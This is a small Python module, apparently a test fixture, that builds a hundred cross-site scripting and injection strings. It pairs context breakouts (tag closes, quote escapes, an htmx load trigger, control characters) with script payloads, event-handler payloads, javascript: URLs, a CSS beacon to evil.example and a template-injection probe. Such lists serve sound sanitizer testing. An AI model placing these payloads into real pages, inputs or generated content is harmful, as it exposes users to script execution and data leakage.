"""A hundred hostile texts, made from parts: what closes a context, and what then runs."""

from itertools import product

_RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<input autofocus onfocus=alert(1)>",
    "[x](javascript:alert(1))",
    "{{ 7*'7' }}{% debug %}",
)
_CLOSES = (
    "",
    '">',
    "'>",
    "</p></article>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    '" hx-get="/evil" hx-trigger="load" x="',
    "\u202e\u0000\x1b[31m",
)
HOSTILE = tuple(close + runs for close, runs in product(_CLOSES, _RUNS))
